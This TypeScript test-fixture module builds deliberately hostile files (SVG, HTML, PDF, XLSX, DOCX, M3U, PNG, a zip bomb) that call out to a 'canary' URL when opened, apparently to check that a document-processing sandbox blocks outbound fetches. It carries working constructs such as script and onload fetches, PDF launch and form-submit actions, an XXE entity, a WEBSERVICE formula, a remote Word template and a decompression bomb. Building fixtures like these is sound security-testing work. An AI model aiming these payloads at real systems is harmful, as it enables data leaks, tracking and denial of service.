/** Files that try to be noticed: each names the canary in every way its format knows. */
import { deflateSync } from 'node:zlib';
import { PDFArray, PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import { strToU8, zipSync } from 'fflate';

export function hostileSvg(canary: string): Uint8Array {
  return strToU8(`<?xml version="1.0"?><?xml-stylesheet href="${canary}/svg.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('${canary}/onload')">
<script>fetch('${canary}/script'); parent.escapes = 99;</script>
<image xlink:href="${canary}/image.png" width="9" height="9"/><use href="${canary}/use.svg#a"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${canary}/iframe"/></foreignObject></svg>`);
}

export function hostileHtml(canary: string): Uint8Array {
  return strToU8(`<!DOCTYPE html><meta http-equiv="refresh" content="0;url=${canary}/refresh">
<link rel="stylesheet" href="${canary}/a.css"><link rel="prefetch" href="${canary}/prefetch"><link rel="dns-prefetch" href="${canary}">
<img src="${canary}/img" onerror="fetch('${canary}/onerror')"><iframe src="${canary}/iframe"></iframe>
<script>fetch('${canary}/script'); top.location = '${canary}/top'; navigator.sendBeacon('${canary}/beacon');</script>
<style>@import url(${canary}/import); body { background: url(${canary}/background) }</style>`);
}

/** JavaScript on opening, on each page and by name; links, launching, sending, remote files, an XFA form. */
export async function hostilePdf(canary: string): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([400, 300]);
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  page.drawText('Bewijs van de betaling', { x: 40, y: 200, size: 24, font });
  pdf.addPage([400, 300]).drawText('Tweede blad', { x: 40, y: 200, size: 24, font });
  pdf.addJavaScript('start', `app.launchURL('${canary}/javascript'); fetch('${canary}/javascript-fetch');`);
  const { context, catalog } = pdf;
  const action = (entries: Record<string, unknown>) => context.obj({ Type: 'Action', ...entries } as never);
  const actions = [
    action({ S: 'URI', URI: PDFString.of(`${canary}/uri`) }),
    action({ S: 'Launch', F: PDFString.of(`${canary}/launch`), NewWindow: true }),
    action({ S: 'GoToR', F: PDFString.of(`${canary}/remote.pdf`), D: [0, 'Fit'] }),
    action({ S: 'SubmitForm', F: context.obj({ FS: 'URL', F: PDFString.of(`${canary}/submit`) }) }),
    action({ S: 'JavaScript', JS: PDFString.of(`this.submitForm('${canary}/page-javascript')`) }),
  ];
  catalog.set(PDFName.of('OpenAction'), actions[0] as never);
  catalog.set(PDFName.of('AA'), context.obj({ WC: actions[4], DS: actions[1] } as never));
  catalog.set(PDFName.of('URI'), context.obj({ Base: PDFString.of(canary) }));
  page.node.set(PDFName.of('AA'), context.obj({ O: actions[2], C: actions[3] } as never));
  const links = actions.map((A) =>
    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 400, 300], A } as never)),
  );
  page.node.set(PDFName.of('Annots'), PDFArray.withContext(context));
  for (const link of links) page.node.Annots()?.push(link);
  // A picture that says it lies elsewhere.
  const outside = context.stream(new Uint8Array(0), {
    Type: 'XObject',
    Subtype: 'Image',
    Width: 9,
    Height: 9,
    BitsPerComponent: 8,
    ColorSpace: 'DeviceGray',
    F: context.obj({ FS: 'URL', F: PDFString.of(`${canary}/external-stream`) }),
  });
  page.node.newXObject('Outside', context.register(outside));
  const form = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="a"><image href="${canary}/xfa"/></subform></template></xdp:xdp>`;
  catalog.set(
    PDFName.of('AcroForm'),
    context.obj({ Fields: [], XFA: context.register(context.stream(strToU8(form))) } as never),
  );
  return pdf.save({ useObjectStreams: false });
}

export async function lockedPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  pdf.addPage();
  pdf.encrypt({ userPassword: 'geheim', ownerPassword: 'geheimer' });
  return pdf.save();
}

/** External links, a picture and a data connection that lie elsewhere, and a formula that fetches; and a sheet that is a chart. */
export function hostileXlsx(canary: string): Uint8Array {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const packageNs = 'http://schemas.openxmlformats.org/package/2006/relationships';
  return zipSync({
    '[Content_Types].xml': strToU8(
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
    ),
    'xl/workbook.xml': strToU8(
      `<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="Kosten" sheetId="1" r:id="rId1"/><sheet name="Grafiek" sheetId="2" r:id="rId2"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      `<Relationships xmlns="${packageNs}"><Relationship Id="rId1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${office}/chartsheet" Target="chartsheets/sheet1.xml"/><Relationship Id="rId9" Type="${office}/externalLink" Target="${canary}/link.xlsx" TargetMode="External"/></Relationships>`,
    ),
    'xl/worksheets/sheet1.xml': strToU8(
      `<!DOCTYPE x [<!ENTITY e SYSTEM "${canary}/entity">]><worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Omgekocht</t></is></c><c r="B1"><f>WEBSERVICE("${canary}/formula")</f><v>1250</v></c></row></sheetData></worksheet>`,
    ),
    'xl/chartsheets/sheet1.xml': strToU8(`<chartsheet xmlns="${main}"/>`),
    'xl/connections.xml': strToU8(
      `<connections xmlns="${main}"><connection id="1" name="x"><webPr url="${canary}/connection"/></connection></connections>`,
    ),
  });
}

export function hostileDocx(canary: string): Uint8Array {
  return zipSync({
    'word/document.xml': strToU8(`<w:document><w:altChunk r:id="a" href="${canary}/chunk"/></w:document>`),
    'word/_rels/settings.xml.rels': strToU8(
      `<Relationships><Relationship Target="${canary}/template.dotm" TargetMode="External"/></Relationships>`,
    ),
  });
}

/** A spreadsheet of a few kilobytes that unpacks to a quarter of a gigabyte. */
export function zipBomb(): Uint8Array {
  return zipSync({
    'xl/workbook.xml': strToU8('<workbook/>'),
    'xl/worksheets/sheet1.xml': new Uint8Array(256 * 1024 * 1024),
  });
}

/** What a player would follow if it took it for a list of addresses. */
export function hostilePlaylist(canary: string): Uint8Array {
  return strToU8(`#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n${canary}/segment.ts\n#EXT-X-ENDLIST\n`);
}

/** A grey PNG that says it is of any size, with as many rows as asked for. */
export function greyPng(width: number, height: number, rows = height): Uint8Array {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8;
  // Each row begins with its filter: none.
  const row = Buffer.from(Array.from({ length: width + 1 }, (_, at) => (at === 0 ? 0 : (at * 2) & 0xff)));
  const pixels = deflateSync(Buffer.concat(Array.from({ length: rows }, () => row)));
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function pngChunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const check = Buffer.alloc(4);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/** A second of a tone, as plain samples. */
export function toneWav(seconds = 1, rate = 16_000): Uint8Array {
  const samples = Math.round(seconds * rate);
  const bytes = Buffer.alloc(44 + samples * 2);
  bytes.write('RIFF', 0, 'latin1');
  bytes.writeUInt32LE(36 + samples * 2, 4);
  bytes.write('WAVEfmt ', 8, 'latin1');
  bytes.writeUInt32LE(16, 16);
  bytes.writeUInt16LE(1, 20);
  bytes.writeUInt16LE(1, 22);
  bytes.writeUInt32LE(rate, 24);
  bytes.writeUInt32LE(rate * 2, 28);
  bytes.writeUInt16LE(2, 32);
  bytes.writeUInt16LE(16, 34);
  bytes.write('data', 36, 'latin1');
  bytes.writeUInt32LE(samples * 2, 40);
  for (let at = 0; at < samples; at += 1) {
    bytes.writeInt16LE(Math.round(8000 * Math.sin((2 * Math.PI * 220 * at) / rate)), 44 + at * 2);
  }
  return bytes;
}
